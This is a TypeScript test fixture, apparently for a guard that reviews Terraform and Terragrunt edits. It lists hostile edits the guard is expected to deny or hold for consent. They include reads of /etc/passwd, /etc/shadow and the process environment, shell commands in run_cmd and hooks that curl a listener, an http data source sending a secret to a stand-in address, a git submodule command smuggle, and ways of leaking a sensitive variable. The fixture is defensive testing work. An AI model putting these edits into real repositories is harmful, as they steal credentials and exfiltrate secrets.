import type { Edit } from './infra.ts';

/** A way out of a plan, as somebody would propose it: what is edited, and what must be said of it. */
export interface Escape {
  // In the edits, HOST_PORT stands for the port of a listener on the host's loopback, which must not hear anything.
  readonly name: string;
  readonly edits: Readonly<Record<string, Edit>>;
  /** `deny` whatever anybody consents to; `needs-consent` before anything of it runs. */
  readonly stopped: 'denied' | 'needs-consent';
  /** One of the rules that must have seen it. */
  readonly rule: RegExp;
}

const stack = 'stacks/mail';
const added = (text: string): Edit => text;
const appended =
  (text: string): Edit =>
  (before) =>
    `${before}\n${text}\n`;
const inMain = (text: string) => ({ [`${stack}/main.tf`]: appended(text) });

/** What the base of the suite's repository has, so that there is something to turn against itself. */
export const base: Readonly<Record<string, Edit>> = {
  [`${stack}/vault.tf`]: [
    'variable "planted" {',
    '  type      = string',
    '  sensitive = true',
    '}',
    '',
    'variable "document" {',
    '  type    = string',
    '  default = "{}"',
    '}',
    '',
    'data "kubectl_file_documents" "plain" {',
    '  content = var.document',
    '}',
    '',
    'resource "terraform_data" "uses" {',
    '  input = sensitive(sha256(var.planted))',
    '}',
    '',
  ].join('\n'),
};

export const escapes: readonly Escape[] = [
  {
    name: 'a file of the host',
    edits: inMain('output "x" { value = file("/etc/passwd") }'),
    stopped: 'denied',
    rule: /scan-.*file/,
  },
  {
    name: 'a file of the host, by a path that is computed',
    edits: inMain('locals {\n  at = base64decode("L2V0Yy9wYXNzd2Q=")\n}\noutput "x" { value = file(local.at) }'),
    stopped: 'needs-consent',
    rule: /scan-.*file/,
  },
  {
    name: "the process's environment",
    edits: inMain('output "x" { value = file("/proc/self/environ") }'),
    stopped: 'denied',
    rule: /scan-.*file/,
  },
  {
    name: 'a program by the data source external',
    edits: inMain('data "external" "x" {\n  program = ["sh", "-c", "cat /etc/shadow"]\n}'),
    stopped: 'denied',
    rule: /scan-/,
  },
  {
    name: 'a request by the data source http',
    edits: inMain(`data "http" "x" {\n  url = "http://192.0.2.7/?\${var.planted}"\n}`),
    stopped: 'denied',
    rule: /scan-/,
  },
  {
    name: 'the state of another stack, from a file',
    edits: inMain('data "terraform_remote_state" "x" {\n  backend = "local"\n  config = { path = "/etc/passwd" }\n}'),
    stopped: 'denied',
    rule: /scan-.*remote-state/,
  },
  {
    name: 'the state of another stack, from the database',
    edits: inMain('data "terraform_remote_state" "x" {\n  backend = "pg"\n  config = { schema_name = "identity" }\n}'),
    stopped: 'needs-consent',
    rule: /scan-.*remote-state/,
  },
  {
    name: 'a command while Terragrunt parses',
    edits: {
      [`${stack}/terragrunt.hcl`]: appended(
        'locals {\n  x = run_cmd("sh", "-c", "cat /etc/shadow; env; ls /root; curl -s -m 2 http://127.0.0.1:HOST_PORT/parsed; true")\n}',
      ),
    },
    stopped: 'needs-consent',
    rule: /edit-.*(hcl|terragrunt)/,
  },
  {
    name: 'a hook before the plan',
    edits: {
      [`${stack}/terragrunt.hcl`]: appended(
        'terraform {\n  before_hook "x" {\n    commands = ["plan"]\n    execute  = ["sh", "-c", "setsid sleep 600 >/dev/null 2>&1 & env; curl -s -m 2 http://127.0.0.1:HOST_PORT/hooked; true"]\n  }\n}',
      ),
    },
    stopped: 'needs-consent',
    rule: /edit-.*(hcl|terragrunt)/,
  },
  {
    name: 'another address for a provider',
    edits: inMain('provider "kubectl" {\n  alias = "x"\n  host  = "https://192.0.2.7"\n}'),
    stopped: 'denied',
    rule: /scan-.*provider/,
  },
  {
    name: 'a provider from elsewhere',
    edits: inMain('terraform {\n  required_providers {\n    x = { source = "example/exfiltrate" }\n  }\n}'),
    stopped: 'denied',
    rule: /scan-.*provider/,
  },
  {
    name: 'an override beside the stack',
    edits: { [`${stack}/main_override.tf`]: added('module "teal_fiddle" {\n  memory = "1Mi"\n}\n') },
    stopped: 'denied',
    rule: /edit-.*override/,
  },
  {
    name: 'the same in JSON, which nobody parses here',
    edits: { [`${stack}/more.tf.json`]: added(`{"output":{"x":{"value":"\${file(\\"/etc/passwd\\")}"}}}`) },
    stopped: 'needs-consent',
    rule: /edit-.*json/,
  },
  {
    name: "OpenTofu's own suffix",
    edits: { [`${stack}/main.tofu`]: added('output "x" { value = file("/etc/passwd") }\n') },
    stopped: 'denied',
    rule: /edit-tofu-source/,
  },
  {
    name: 'variables that are read by themselves',
    edits: { [`${stack}/x.auto.tfvars`]: added('document = "{}"\n') },
    stopped: 'needs-consent',
    rule: /edit-automatic-variables/,
  },
  {
    name: 'a link out of the repository',
    edits: { [`${stack}/notes.tf`]: { link: '/etc/passwd' } },
    stopped: 'denied',
    rule: /edit-link/,
  },
  {
    name: 'attributes that name a filter',
    edits: { '.gitattributes': added('*.tf filter=x diff=x merge=x\n') },
    stopped: 'needs-consent',
    rule: /edit-.*git/,
  },
  {
    name: 'a submodule',
    edits: { '.gitmodules': added('[submodule "x"]\n\tpath = x\n\turl = ext::sh -c id\n') },
    stopped: 'needs-consent',
    rule: /edit-.*git/,
  },
  {
    name: 'a script that CI runs',
    edits: { '.github/workflows/x.yml': added('on: push\n') },
    stopped: 'needs-consent',
    rule: /edit-.*ci/,
  },
  {
    name: 'a lock file',
    edits: { [`${stack}/.terraform.lock.hcl`]: added('# none\n') },
    stopped: 'needs-consent',
    rule: /edit-.*lock/,
  },
  {
    name: 'a data source that is turned elsewhere by the default of a variable',
    edits: {
      [`${stack}/vault.tf`]: (before) => before.replace('default = "{}"', 'default = "{ \\"kind\\": \\"Secret\\" }"'),
    },
    stopped: 'needs-consent',
    rule: /scan-.*data/,
  },
  {
    name: 'a module from the network',
    edits: inMain('module "x" {\n  source = "git::https://example.net/x.git"\n}'),
    stopped: 'denied',
    rule: /scan-.*module/,
  },
  {
    name: 'a command at apply',
    edits: inMain('resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}'),
    stopped: 'needs-consent',
    rule: /scan-program/,
  },
  {
    name: 'another backend',
    edits: inMain('terraform {\n  backend "local" {\n    path = "/tmp/x"\n  }\n}'),
    stopped: 'denied',
    rule: /scan-state/,
  },
  {
    name: 'the mark of a secret taken off',
    edits: inMain('output "x" { value = nonsensitive(var.planted) }'),
    stopped: 'needs-consent',
    rule: /scan-.*nonsensitive/,
  },
  {
    name: 'a secret through the keys of for_each',
    edits: inMain(
      'resource "terraform_data" "x" {\n  for_each = nonsensitive(toset(split("", var.planted)))\n  input    = each.key\n}',
    ),
    stopped: 'needs-consent',
    rule: /scan-/,
  },
  {
    name: 'a secret through how many there are',
    edits: inMain(
      'resource "terraform_data" "x" {\n  count = nonsensitive(substr(var.planted, 0, 1)) == "a" ? 1 : 0\n}',
    ),
    stopped: 'needs-consent',
    rule: /scan-/,
  },
  {
    name: 'a secret through the words of a precondition',
    edits: inMain(
      `resource "terraform_data" "x" {\n  lifecycle {\n    precondition {\n      condition     = false\n      error_message = "it is \${nonsensitive(var.planted)} as we know"\n    }\n  }\n}`,
    ),
    stopped: 'needs-consent',
    rule: /scan-/,
  },
  {
    name: 'a secret through the words of an error',
    edits: inMain('output "x" { value = tonumber(nonsensitive(var.planted)) }'),
    stopped: 'needs-consent',
    rule: /scan-/,
  },
  {
    name: 'a secret through a label',
    edits: inMain(
      'resource "kubectl_manifest" "x" {\n  yaml_body = yamlencode({ apiVersion = "v1", kind = "ConfigMap", metadata = { name = "x", namespace = "default", labels = { x = nonsensitive(substr(sha256(var.planted), 0, 20)) } } })\n}',
    ),
    stopped: 'needs-consent',
    rule: /scan-/,
  },
];

/** The edits, with the port of the listener they try to reach. */
export function aimedAt(port: number, edits: Escape['edits']): Escape['edits'] {
  const aimed = (text: string): string => text.replaceAll('HOST_PORT', String(port));
  return Object.fromEntries(
    Object.entries(edits).map(([path, edit]) => {
      if (typeof edit === 'string') return [path, aimed(edit)];
      return [path, typeof edit === 'function' ? (before: string) => aimed(edit(before)) : edit];
    }),
  );
}
